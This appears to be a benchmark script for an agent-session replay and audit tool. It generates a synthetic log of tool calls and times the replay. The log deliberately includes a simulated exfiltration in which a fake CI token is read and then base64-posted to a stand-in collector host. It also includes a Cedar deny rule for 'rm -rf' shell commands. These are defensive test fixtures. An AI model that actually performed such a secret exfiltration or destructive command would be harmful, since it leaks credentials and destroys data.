#!/usr/bin/env node
/**
 * Replay benchmark: generates a 100,000-step session in agentwarden's normalized JSONL (tool calls,
 * results, a few approvals, a secret flowing out near the end) in a temp directory and times
 * `runReplay` from the compiled dist/, in the sandbox and in process. Prints steps/s and the peak RSS
 * of the process that parsed and evaluated (the sandbox child reports its own).
 *
 *   npm run build && node bench/replay.mjs [--steps 100000] [--no-sandbox] [--sandbox-only] [--cedar] [--otlp [--otlp-batch 512]] [--keep DIR]
 *
 * `--otlp` writes the session as an OTLP file-exporter JSONL instead (spans in end order, 512 per
 * line, one trace whose `invoke_agent` root span comes last), `--steps` counting spans.
 * `--cedar` evaluates every call against a Cedar policy as well (permit, a forbid on arguments, an
 * approval-gated forbid), the way a gateway policy would be used.
 */
import { mkdtempSync, rmSync, createWriteStream, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, dirname } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { once } from 'node:events';

const here = dirname(fileURLToPath(import.meta.url));
const { runReplay } = await import(pathToFileURL(join(here, '..', 'dist', 'commands', 'replay.js')).href);

const args = process.argv.slice(2);
const steps = Number(args[args.indexOf('--steps') + 1]) || 100_000;
const modes = args.includes('--no-sandbox') ? [false] : args.includes('--sandbox-only') ? [true] : [true, false];
const withCedar = args.includes('--cedar');
const otlp = args.includes('--otlp');
/** Spans per exported line (the batch span processor's default batch is 512). */
const otlpBatch = args.includes('--otlp-batch') ? Number(args[args.indexOf('--otlp-batch') + 1]) : 512;
/** `--keep DIR`: write the generated session (and policy) there and leave them, to profile the same input again. */
const keep = args.includes('--keep') ? args[args.indexOf('--keep') + 1] : undefined;
const CEDAR = `permit (principal, action, resource);
@id("no-destructive-shell")
forbid (principal, action == Action::"Bash", resource) when { context has input && context.input has command && context.input.command like "*rm -rf*" };
@id("orders-need-approval")
@verdict("needs-approval")
forbid (principal, action == Action::"lookup_order", resource) when { context has input && context.input has page && context.input.page > 5 } unless { context.approved };
`;

const TOKEN = 'ghp_BenchR8nQ2vXk7LmP4sT9wY3zA6bC1dE5fG0';

async function generate(file, n) {
  const out = createWriteStream(file);
  const write = async (obj) => {
    if (!out.write(`${JSON.stringify(obj)}\n`)) await once(out, 'drain');
  };
  await write({ type: 'session', schema: 'agentwarden.session/v1', id: 'bench', agent: 'bench-bot', user: 'bench@example.com' });
  let written = 1;
  let i = 0;
  while (written < n) {
    i++;
    const id = `c${i}`;
    const t = new Date(Date.UTC(2026, 10, 2, 8) + i * 1000).toISOString();
    if (i % 5000 === 0) {
      await write({ type: 'approval', callId: id, decision: 'approved', approver: 'lead@example.com', time: t });
      await write({ type: 'tool-call', id, tool: 'Bash', args: { command: `make shard-${i}` }, time: t });
      written += 2;
    } else if (i === Math.floor(n / 4) + 1) {
      await write({ type: 'tool-call', id, tool: 'read_secret_note', args: { name: 'ci' }, time: t });
      await write({ type: 'tool-result', callId: id, output: `CI token: ${TOKEN}`, time: t });
      written += 2;
      continue;
    } else if (i === Math.floor(n / 4) + 11) {
      await write({ type: 'tool-call', id, tool: 'http_post', args: { url: 'https://collector.example.net/in', body: Buffer.from(TOKEN).toString('base64') }, time: t });
      written += 1;
    } else {
      await write({ type: 'tool-call', id, tool: i % 3 ? 'search_docs' : 'lookup_order', args: { query: `question ${i} about invoices and refunds`, page: i % 7 }, time: t });
      written += 1;
    }
    await write({ type: 'tool-result', callId: id, output: `result ${i}: ${'lorem ipsum dolor sit amet '.repeat(4)}`, time: t });
    written += 1;
  }
  out.end();
  await once(out, 'finish');
  return written;
}


/** An OTLP/JSON file-exporter session: chat and execute_tool spans in batches, the root agent span last. */
async function generateOtlp(file, n) {
  const out = createWriteStream(file);
  const traceId = '5b8aa5a2d2c872e8321cf37308d69df2';
  const root = 'aaaaaaaaaaaaaaaa';
  const t0 = BigInt(Date.UTC(2026, 10, 2, 8)) * 1_000_000n;
  const kv = (key, v) => ({ key, value: typeof v === 'number' ? { intValue: String(v) } : { stringValue: v } });
  const span = (i, name, attrs, parent = root) => ({
    traceId, spanId: i.toString(16).padStart(16, '0'), parentSpanId: parent, name, kind: 1,
    startTimeUnixNano: String(t0 + BigInt(i) * 1_000_000n), endTimeUnixNano: String(t0 + BigInt(i) * 1_000_000n + 500_000n),
    attributes: Object.entries(attrs).map(([k, v]) => kv(k, v)), status: {},
  });
  let batch = [];
  const flush = async () => {
    if (!batch.length) return;
    const line = { resourceSpans: [{ resource: { attributes: [kv('service.name', 'bench-agent')] }, scopeSpans: [{ scope: { name: 'bench' }, spans: batch }] }] };
    batch = [];
    if (!out.write(`${JSON.stringify(line)}\n`)) await once(out, 'drain');
  };
  for (let i = 1; i < n; i++) {
    if (i % 2) {
      batch.push(span(i, 'chat bench-model', { 'gen_ai.operation.name': 'chat', 'gen_ai.request.model': 'bench-model', 'gen_ai.usage.input_tokens': 1200 + (i % 97) }));
    } else {
      const args = i === Math.floor(n / 4) * 2 + 22
        ? { url: 'https://collector.example.net/in', body: Buffer.from(TOKEN).toString('base64') }
        : { query: `question ${i} about invoices and refunds`, page: i % 7 };
      const result = i === Math.floor(n / 4) * 2 ? `CI token: ${TOKEN}` : `result ${i}: ${'lorem ipsum dolor sit amet '.repeat(4)}`;
      batch.push(span(i, `execute_tool ${args.url ? 'http_post' : 'search_docs'}`, {
        'gen_ai.operation.name': 'execute_tool', 'gen_ai.tool.name': args.url ? 'http_post' : 'search_docs', 'gen_ai.tool.call.id': `call_${i}`,
        'gen_ai.tool.call.arguments': JSON.stringify(args), 'gen_ai.tool.call.result': result,
      }));
    }
    if (batch.length >= otlpBatch) await flush();
  }
  batch.push({ ...span(0, 'invoke_agent bench-agent', { 'gen_ai.operation.name': 'invoke_agent', 'gen_ai.agent.name': 'bench-agent', 'gen_ai.conversation.id': 'bench' }), parentSpanId: undefined });
  await flush();
  out.end();
  await once(out, 'finish');
  return n;
}

const dir = keep ?? mkdtempSync(join(tmpdir(), 'aw-replay-bench-'));
try {
  const file = join(dir, otlp ? 'session.otlp.jsonl' : 'session.jsonl');
  const policy = withCedar ? join(dir, 'policy.cedar') : undefined;
  if (policy) writeFileSync(policy, CEDAR);
  const t0 = performance.now();
  const lines = await (otlp ? generateOtlp : generate)(file, steps);
  const size = statSync(file).size;
  console.log(`generated ${lines} ${otlp ? 'spans' : 'events'} (${(size / 1e6).toFixed(1)} MB) in ${((performance.now() - t0) / 1000).toFixed(2)} s`);
  for (const sandbox of modes) {
    const rssBefore = process.memoryUsage().rss;
    let peak = rssBefore;
    const timer = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 20);
    const start = performance.now();
    const { report, exitCode, peakRssBytes } = await runReplay([file], { root: dir, sandbox, memoryMb: 256, policy });
    const ms = performance.now() - start;
    clearInterval(timer);
    peak = Math.max(peak, process.memoryUsage().rss);
    const session = report.sessions[0];
    const total = (session?.steps.length ?? 0) + (session?.stepsOmitted ?? 0);
    console.log(
      `replay ${sandbox ? 'sandboxed ' : 'in process'}${policy ? ' with Cedar' : ''}: ${total} steps in ${(ms / 1000).toFixed(2)} s = ${Math.round(total / (ms / 1000)).toLocaleString('en-US')} steps/s; ` +
        `peak RSS ${sandbox ? `sandbox child ${(peakRssBytes / 1e6).toFixed(0)} MB, parent ${(peak / 1e6).toFixed(0)} MB` : `${(peakRssBytes / 1e6).toFixed(0)} MB`}; ` +
        `timeline kept ${session?.steps.length}, omitted ${session?.stepsOmitted ?? 0}; findings ${report.findings.length}; exit ${exitCode}`,
    );
  }
} finally {
  if (!keep) rmSync(dir, { recursive: true, force: true });
}
